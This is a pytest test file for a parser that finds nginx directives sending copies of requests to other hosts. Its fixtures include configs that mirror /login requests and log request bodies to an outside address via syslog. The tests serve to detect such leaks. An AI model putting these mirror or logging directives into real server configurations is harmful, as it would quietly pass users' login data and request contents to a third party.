"""Where web servers send copies of requests."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemostat.model.evidence import Evidence
from hemostat.model.path import HostPath
from hemostat.parse.host.request_copies import parse_request_copies
from hemostat.parse.place import Place

PLACE = Place(HostPath("/etc/nginx/conf.d/a.conf"))


@pytest.mark.requirement("B5.4")
@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("server { location = /login { mirror /m; proxy_pass http://b; }\n"
         " location = /m { internal; proxy_pass http://203.0.113.7:80/c; } }",
         [("mirror", "http://203.0.113.7:80/c")]),
        ("location / { post_action @after; } location @after { proxy_pass http://a; }",
         [("post_action", "http://a")]),
        ("log_format b '$remote_addr $request_body';\naccess_log syslog:server=203.0.113.7:514 b;",
         [("log", "203.0.113.7")]),
        ("access_log syslog:server=203.0.113.7:514 combined;", []),
        ("# mirror /m;\nlocation /m { proxy_pass http://a; }", []),
    ],
)  # fmt: skip
def test_a_copy_is_told_with_its_goal(text: str, expected: list[tuple[str, str]]) -> None:
    found = parse_request_copies(Evidence(text.encode(), PLACE.path), PLACE).records
    assert [(each.section, each.value) for each in found] == expected


@given(st.text(alphabet="{};\n abcmirorlocation/#$", max_size=300))
def test_any_text_is_read(text: str) -> None:
    found = parse_request_copies(Evidence(text.encode(), PLACE.path), PLACE).records
    assert all(each.keyword == "copies" for each in found)
